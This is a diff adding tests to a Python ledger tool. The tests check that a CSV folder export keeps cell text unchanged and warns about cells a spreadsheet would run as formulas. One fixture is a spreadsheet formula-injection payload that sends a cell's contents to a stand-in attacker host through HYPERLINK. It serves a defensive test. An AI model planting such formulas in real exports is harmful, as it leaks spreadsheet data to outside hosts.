@@ -12,8 +12,8 @@ from standto import read_scenario
 from standto.cli.main import main
 from standto_desk.access.log_chain import GENESIS
 from standto_desk.commands.ledger_append import LONGEST, batches
-from standto_desk.ledger import Entry, head
-from tests.desk.ledger.starting import started
+from standto_desk.ledger import Entry, append, head
+from tests.desk.ledger.starting import ANA, NOON, event, started
 from tests.desk.ledger.test_verify import execute, unguard
 from tests.desk.ledger.writers import ENVIRONMENT, acks, said
 from tests.scenario.folders import write
@@ -315,3 +315,25 @@ def test_an_import_warns_as_check_does_and_refuses_names_that_look_alike(ledger,
             "write both alike\n"
         ),
     )
+
+
+FORMULA = '=HYPERLINK("http://evil.example?"&A1,"see")'
+
+
+def test_a_folder_is_a_faithful_copy_and_says_which_cells_a_spreadsheet_would_run(ledger, tmp_path):
+    started()
+    texts = [FORMULA, "＝1+1", "-4", "@SUM(A1)", "plain"]
+    append([event("statement", "met", source="met-0924", text=text) for text in texts], hand=ANA, now=NOON)
+    status, out, told = ledger("export", "--folder", "out", "--at", "2023-09-23T12:00")
+    assert (status, out) == (0, "")
+    assert told == (
+        "out: 3 cells hold what a spreadsheet would run as a formula: events.csv:2 note, events.csv:3 note, "
+        "events.csv:5 note. They are as they were typed: import the tables with every column as text\n"
+    )
+    assert sorted(one.note for one in read_scenario(tmp_path / "out").events) == sorted(texts)
+
+
+def test_a_folder_without_formulas_is_exported_without_a_word(ledger):
+    started()
+    append([event("statement", "met", text="4 more = enough")], hand=ANA, now=NOON)
+    assert ledger("export", "--folder", "out", "--at", "2023-09-23T12:00") == (0, "", "")
